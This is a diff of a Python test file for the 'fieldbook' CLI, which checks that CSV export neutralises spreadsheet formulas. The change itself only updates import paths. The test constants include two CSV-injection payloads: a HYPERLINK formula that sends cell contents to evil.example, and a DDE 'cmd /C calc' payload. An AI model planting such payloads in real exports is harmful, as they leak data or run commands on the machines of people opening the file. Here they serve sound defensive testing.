@@ -1,7 +1,7 @@
 """CSV for people is formula-safe (issue 13, item 7): ``customers|skus|visits|slips list --csv``
 and ``plan --csv`` put a ``'`` before a cell that Excel or WPS would run as a formula (OWASP:
 = + - @ tab CR); ``--raw`` keeps every cell as stored, for scripts. One writer for all of them
-(fieldbook.cli_output.write_table)."""
+(fieldbook.cli.output.write_table)."""
 
 from __future__ import annotations
 
@@ -12,12 +12,12 @@ from pathlib import Path
 
 import pytest
 
-from fieldbook.cli import main
-from fieldbook.cli_output import formula_safe
-from fieldbook.core.catalog import SkuInput
-from fieldbook.core.customers import CustomerInput
+from fieldbook.cli.main import main
+from fieldbook.cli.output import formula_safe
 from fieldbook.core.journal import Journal
-from fieldbook.core.slips import SlipInput
+from fieldbook.core.master.catalog import SkuInput
+from fieldbook.core.master.customers import CustomerInput
+from fieldbook.core.slips.service import SlipInput
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
 SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
